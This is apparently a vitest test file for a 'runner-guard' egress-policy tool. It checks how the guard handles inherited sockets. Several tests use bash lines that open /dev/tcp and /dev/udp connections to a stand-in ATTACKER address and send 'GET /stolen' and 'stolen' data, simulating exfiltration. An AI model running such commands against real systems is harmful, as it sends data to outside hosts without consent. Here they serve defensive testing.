/** B17: a socket that somebody connected before the guard was there, and left to the command. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ATTACKER } from "../../support/internet/addresses.ts";
import { type AttackScene, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import { readReport, toPolicy } from "./support/guarded-pod.ts";

const obstacle = findObstacle();
const GUARD = `${import.meta.dirname}/../../../bin/runner-guard`;
const REQUEST = String.raw`GET /stolen HTTP/1.0\r\n\r\n`;

describe.skipIf(obstacle !== "")(`a connection that the command inherits${obstacle}`, () => {
  let scene: AttackScene;
  beforeAll(async () => {
    scene = await createAttackScene();
  });
  afterAll(async () => scene[Symbol.asyncDispose]());

  interface Inherited {
    readonly policy: string;
    /** What bash does before the guard. */
    readonly before: string;
    readonly command: string;
    /** Of the guard. */
    readonly streams?: string;
  }

  async function inherit({ policy, before, command, streams = "" }: Inherited) {
    const { pod } = scene;
    const guard = `"${GUARD}" run --quiet --policy p.json --report r.json -- bash -c '${command}' ${streams}`;
    const write = `printf %s '${policy}' >p.json; rm -f r.json`;
    const ended = await pod.run(["bash", "-c", `${write}; ${before}; ${guard}`]);
    const report = readReport(`${pod.folder}/r.json`, ended);
    return {
      ...ended,
      connections: report.connections.filter(({ network }) => network.family === "ipv4"),
    };
  }

  test("and policy forbids is closed in block mode, and said to be", async () => {
    const ended = await inherit({
      policy: toPolicy({ allow: ["github.test"] }),
      before: `exec 5<>/dev/tcp/${ATTACKER.ipv4}/80; exec 6<>/dev/udp/${ATTACKER.ipv4}/99`,
      command: `printf "${REQUEST}" >&5 && echo sent; echo stolen >&6 && echo sent`,
    });

    expect(ended.stdout).toBe("");
    expect(ended.stderr).toContain(
      `descriptor 5 is closed: it is connected to tcp ${ATTACKER.ipv4} port 80`,
    );
    expect(ended.stderr).toContain(
      `descriptor 6 is closed: it is connected to udp ${ATTACKER.ipv4} port 99`,
    );
    expect(ended.connections).toEqual([]);
  });

  test("and policy allows by its address is kept, and told", async () => {
    const ended = await inherit({
      policy: toPolicy({ allow: [`${ATTACKER.ipv4}:80`] }),
      before: `exec 5<>/dev/tcp/${ATTACKER.ipv4}/80`,
      command: `printf "${REQUEST}" >&5; tail -n 1 <&5`,
    });

    expect(ended.stdout).toContain("attacker GET /stolen");
    expect(ended.connections).toMatchObject([
      { destination: { ip: ATTACKER.ipv4, port: 80 }, verdict: "allowed", count: 1 },
    ]);
  });

  test("is kept in audit mode, and told with what policy says", async () => {
    const ended = await inherit({
      policy: toPolicy({ mode: "audit", allow: ["github.test"] }),
      before: `exec 5<>/dev/tcp/${ATTACKER.ipv4}/80`,
      command: `printf "${REQUEST}" >&5; tail -n 1 <&5`,
    });

    expect(ended.stdout).toContain("attacker GET /stolen");
    expect(ended.connections).toMatchObject([
      { destination: { ip: ATTACKER.ipv4, port: 80 }, verdict: "would-block" },
    ]);
  });

  test("as a standard stream is kept: it may be who called the guard", async () => {
    const ended = await inherit({
      policy: toPolicy({ allow: ["github.test"] }),
      before: `exec 5<>/dev/tcp/${ATTACKER.ipv4}/80`,
      streams: "<&5 5<&-",
      command: `printf "${REQUEST}" >&0; tail -n 1 <&0`,
    });

    expect(ended.stdout).toContain("attacker GET /stolen");
    expect(ended.connections).toMatchObject([
      { destination: { ip: ATTACKER.ipv4, port: 80 }, verdict: "would-block", rule: "default" },
    ]);
  });
});
